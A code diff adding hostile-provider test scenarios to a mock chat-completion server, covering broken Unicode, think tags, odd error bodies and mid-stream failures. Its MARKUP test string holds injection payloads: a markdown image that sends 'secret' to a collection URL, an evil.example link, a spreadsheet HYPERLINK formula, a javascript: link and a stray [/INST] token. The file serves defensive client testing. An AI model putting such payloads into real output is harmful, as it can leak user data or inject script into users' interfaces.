@@ -16,6 +16,22 @@ The model name picks the behaviour, so one server can play many providers at onc
     fixed-N-DELAY       N tokens, DELAY seconds each (for benchmarks)
     judge               a JSON verdict: refused when the judged answer says "sorry", else answered
 
+Untrusted input (issue 12), one scenario per kind:
+
+    surrogates          an emoji split into two UTF-16 halves across chunks, then a stray half
+    finish-REASON       echoes, then ends with finish_reason REASON (error, content_filter, SAFETY...)
+    think-open          "<think>plan</think>" then the answer (reasoning inside tags)
+    think-noopen        reasoning then "</think>" without the opening tag (R1 distills on vLLM)
+    think-mention       an ordinary answer that mentions the <think> tag in the middle
+    budget              reasoning_content only, then finish_reason "length" (no answer text)
+    status-CODE-SHAPE   HTTP CODE with an error body of SHAPE: json | list (Gemini) | text | html
+                        | safety (a 429 that says "safety") | invalid_prompt (OpenAI's prompt block)
+                        | echo-key (echoes the Authorization header it got)
+    ok-SHAPE            HTTP 200 that is not an event stream: json-error | html | completion
+    stream-error        two tokens, then an error event inside the stream (OpenRouter)
+    silent              an event stream that ends at once: no text, no finish reason
+    markup              an answer full of markup: a remote image, a $ amount, Rich tags, a formula
+
 Also used by bench/ for fan-out and suite timing. Bound to 127.0.0.1 on a free port.
 """
 
@@ -66,6 +82,83 @@ class _Handler(BaseHTTPRequestHandler):
         self.wfile.write(f"data: {json.dumps(body)}\n\n".encode())
         self.wfile.flush()
 
+    def _raw(self, status: int, content_type: str, data: bytes) -> None:
+        self.send_response(status)
+        self.send_header("Content-Type", content_type)
+        self.send_header("Content-Length", str(len(data)))
+        self.end_headers()
+        self.wfile.write(data)
+
+    def _error_body(self, status: int, shape: str) -> None:
+        message = f"Something went wrong upstream ({status})"
+        if shape == "list":  # Gemini's OpenAI-compatible endpoint
+            body = [
+                {
+                    "error": {
+                        "code": status,
+                        "message": "API key not valid. Please pass a valid API key.",
+                        "status": "INVALID_ARGUMENT",
+                    }
+                }
+            ]
+            return self._json(status, body)
+        if shape == "text":
+            return self._raw(status, "text/plain", b"upstream connect error or disconnect/reset before headers")
+        if shape == "html":
+            page = (
+                b"<html><head><title>502 Bad Gateway</title></head><body><center><h1>502 Bad Gateway</h1>"
+                b"</center><hr><center>nginx</center></body></html>"
+            )
+            return self._raw(status, "text/html", page)
+        if shape == "safety":
+            message = "Too many requests to the safety classifier; slow down"
+        if shape == "invalid_prompt":
+            message = (
+                "Invalid prompt: your prompt was flagged as potentially violating our usage policy. "
+                "Please try again with a different prompt."
+            )
+            return self._json(
+                status, {"error": {"message": message, "type": "invalid_request_error", "code": "invalid_prompt"}}
+            )
+        if shape == "echo-key":
+            message = f"Incorrect API key provided. Received header: Authorization: {self.headers.get('Authorization')}"
+        return self._json(status, {"error": {"message": message, "type": "error", "code": status}})
+
+    def _not_a_stream(self, shape: str, request: dict) -> None:
+        if shape == "html":
+            page = (
+                b"<!DOCTYPE html><html><head><title>Sign in to the hotel Wi-Fi</title></head>"
+                b"<body><p>Accept the terms to continue.</p></body></html>"
+            )
+            return self._raw(200, "text/html; charset=utf-8", page)
+        if shape == "json-error":
+            return self._json(200, {"error": {"message": "The model is overloaded, try later", "code": 503}})
+        last = next((m["content"] for m in reversed(request.get("messages", [])) if m["role"] == "user"), "")
+        return self._json(
+            200,
+            {
+                "id": "chatcmpl-whole",
+                "object": "chat.completion",
+                "created": int(time.time()),
+                "model": "ok-completion",
+                "choices": [{"index": 0, "message": {"role": "assistant", "content": last}, "finish_reason": "stop"}],
+                "usage": {"prompt_tokens": 5, "completion_tokens": 2, "total_tokens": 7},
+            },
+        )
+
+    def _script(self, model: str, events: list) -> None:
+        """Stream scripted deltas: each event is (delta, finish_reason) or a raw data dict."""
+        try:
+            for event in events:
+                if isinstance(event, dict):
+                    self.wfile.write(f"data: {json.dumps(event)}\n\n".encode())
+                else:
+                    self._chunk(model, *event)
+            self.wfile.write(b"data: [DONE]\n\n")
+            self.wfile.flush()
+        except (BrokenPipeError, ConnectionResetError):
+            pass
+
     def do_POST(self) -> None:  # noqa: N802
         length = int(self.headers.get("Content-Length", 0))
         request = json.loads(self.rfile.read(length) or b"{}")
@@ -94,6 +187,11 @@ class _Handler(BaseHTTPRequestHandler):
                     }
                 },
             )
+        if model.startswith("status-"):
+            _, code, shape = model.split("-", 2)
+            return self._error_body(int(code), shape)
+        if model.startswith("ok-"):
+            return self._not_a_stream(model.split("-", 1)[1], request)
         self.send_response(200)
         self.send_header("Content-Type", "text/event-stream")
         self.send_header("Connection", "close")
@@ -104,6 +202,10 @@ class _Handler(BaseHTTPRequestHandler):
             answer = last.split("<answer>")[-1].lower()
             label = "refused" if "sorry" in answer else "answered"
             words = ['{"label": ', f'"{label}", ', '"confidence": 0.9}']
+        if model in SCRIPTS:
+            return self._script(model, SCRIPTS[model])
+        if model == "markup":
+            words = [MARKUP]
         delay = 0.0
         if model.startswith("slow-"):
             time.sleep(float(model.split("-", 1)[1]))
@@ -130,6 +232,8 @@ class _Handler(BaseHTTPRequestHandler):
                     time.sleep(delay)
                 self._chunk(model, {"content": word})
             finish = "content_filter" if model == "filter" else "stop"
+            if model.startswith("finish-"):
+                finish = model.split("-", 1)[1]
             self._chunk(model, {}, finish)
             if model == "usage" or request.get("stream_options", {}).get("include_usage"):
                 self._chunk(
@@ -145,6 +249,52 @@ class _Handler(BaseHTTPRequestHandler):
             self.wfile.flush()
         except (BrokenPipeError, ConnectionResetError):
             pass
+
+
+MARKUP = (
+    "Here is a chart ![chart](http://127.0.0.1:9/collect.png?d=secret) and it costs $5 and $10. "
+    '[/INST] [link=http://evil.example]click[/link] [bold]loud[/bold] =HYPERLINK("http://x") '
+    "<img src=http://127.0.0.1:9/x.png> [run](javascript:alert(1))"
+)
+SCRIPTS = {
+    # json.dumps writes a lone surrogate as a \udXXX escape, exactly what a broken provider sends
+    "surrogates": [
+        ({"content": "Smile "}, None),
+        ({"content": "\ud83d"}, None),
+        ({"content": "\ude00 and a stray "}, None),
+        ({"content": "\udc80 half."}, None),
+        ({}, "stop"),
+    ],
+    "think-open": [
+        ({"content": "<thi"}, None),
+        ({"content": "nk>plan it</th"}, None),
+        ({"content": "ink>\n\nAnswer"}, None),
+        ({"content": " here"}, None),
+        ({}, "stop"),
+    ],
+    "think-noopen": [
+        ({"content": "The user asks. "}, None),
+        ({"content": "I should answer.</think>"}, None),
+        ({"content": "\n\nParis is the capital."}, None),
+        ({}, "stop"),
+    ],
+    "think-mention": [
+        ({"content": "R1 wraps its reasoning in a <think> tag"}, None),
+        ({"content": ", closed by </think>, before the answer."}, None),
+        ({}, "stop"),
+    ],
+    "budget": [
+        ({"reasoning_content": "Let me think about this carefully. "}, None),
+        ({"reasoning_content": "First, consider..."}, None),
+        ({}, "length"),
+    ],
+    "silent": [],  # a 200 event stream that ends before any chunk or finish reason
+    "stream-error": [
+        ({"content": "Partial "}, None),
+        ({"content": "answer "}, None),
+        {"error": {"code": "server_error", "message": "Provider disconnected unexpectedly"}},
+    ],
+}
 
 
 class ProtocolServer:
